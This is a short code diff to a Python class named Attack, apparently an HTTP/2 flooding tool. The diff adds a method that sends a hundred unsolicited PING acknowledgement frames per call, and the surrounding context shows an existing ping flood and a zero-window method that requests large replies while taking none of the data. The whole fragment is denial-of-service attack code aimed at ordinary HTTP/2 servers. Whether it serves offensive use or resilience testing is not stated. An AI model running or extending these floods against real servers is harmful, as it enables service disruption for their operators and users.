@@ -98,6 +98,10 @@ class Attack:
     def ping(self):
         self.floods(lambda _: frame(PING, 0, 0, b"pingping") * 100)
 
+    def ping_answer(self):
+        """Answers to pings that nobody has sent."""
+        self.floods(lambda _: frame(PING, ACK, 0, b"pingping") * 100)
+
     def zero_window(self):
         """Asks for large replies and takes nothing of them; answers pings, so that it seems alive."""
         settings = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
